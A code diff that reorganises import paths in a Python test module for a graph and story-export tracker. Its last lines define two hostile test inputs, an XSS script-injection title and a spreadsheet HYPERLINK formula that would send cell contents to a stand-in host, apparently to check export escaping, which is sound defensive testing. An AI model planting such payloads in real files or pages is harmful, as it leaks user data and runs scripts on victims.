@@ -13,14 +13,14 @@ import networkx as nx
 import pytest
 from defusedxml import ElementTree
 
-from tracker import queries_story
+from tracker.domain.story import ClaimStory
 from tracker.errors import BadInput, NotFound
-from tracker.export import GraphFormat, projection, write_graph, write_story_files
-from tracker.graph import build_claim_graph, build_outlet_graph
-from tracker.story import ClaimStory
+from tracker.export.files import GraphFormat, projection, write_graph, write_story_files
+from tracker.export.graph import build_claim_graph, build_outlet_graph
+from tracker.queries import story as queries_story
 from tracker.testing.stories import demo_like_story
 
-from .cli_run import run_cli
+from .support.cli_run import run_cli
 
 HOSTILE_TITLE = "</script><script>alert(1)</script>"
 FORMULA_TITLE = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
